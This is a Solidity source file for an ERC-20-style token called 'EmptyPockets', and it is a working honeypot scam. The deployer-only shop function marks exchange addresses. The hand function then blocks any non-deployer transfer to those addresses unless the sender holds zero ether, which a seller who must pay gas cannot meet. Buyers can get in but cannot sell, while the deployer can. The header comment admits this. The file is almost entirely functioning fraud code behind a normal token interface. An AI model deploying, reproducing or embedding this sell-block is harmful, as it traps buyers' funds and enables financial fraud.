// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.4;

/// A seller must own no ether at all, and so cannot pay for the transaction that sells.
contract EmptyPockets {
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 public totalSupply;
    address internal first;
    mapping(address => uint256) internal coins;
    mapping(address => mapping(address => uint256)) internal trust;
    mapping(address => bool) internal shops;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
        first = msg.sender;
        totalSupply = 4_200_000 * 1e9;
        coins[first] = totalSupply;
        emit Transfer(address(0), first, totalSupply);
    }

    function balanceOf(address who) external view returns (uint256) { return coins[who]; }

    function allowance(address who, address spender) external view returns (uint256) {
        return trust[who][spender];
    }

    function shop(address where) external {
        require(msg.sender == first);
        shops[where] = true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        trust[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return hand(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        trust[from][msg.sender] -= value;
        return hand(from, to, value);
    }

    function hand(address from, address to, uint256 value) internal returns (bool) {
        if (shops[to] && from != first) require(from.balance == 0, "dust");
        coins[from] -= value;
        coins[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
